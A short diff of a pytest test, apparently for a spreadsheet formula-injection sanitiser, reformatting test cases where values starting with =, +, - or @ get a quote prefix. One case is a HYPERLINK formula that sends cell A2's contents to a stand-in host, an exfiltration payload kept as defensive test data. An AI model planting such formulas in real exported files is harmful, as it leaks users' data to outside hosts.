@@ -16,7 +16,10 @@ pytestmark = pytest.mark.nodb
     ("value", "expected"),
     [
         ("=1+1", "'=1+1"),
-        ('=HYPERLINK("http://x.example/?leak="&A2,"Klicka")', "'=HYPERLINK(\"http://x.example/?leak=\"&A2,\"Klicka\")"),
+        (
+            '=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
+            '\'=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
+        ),
         ("+1", "'+1"),
         ("-1", "'-1"),
         ("@SUM(A1)", "'@SUM(A1)"),
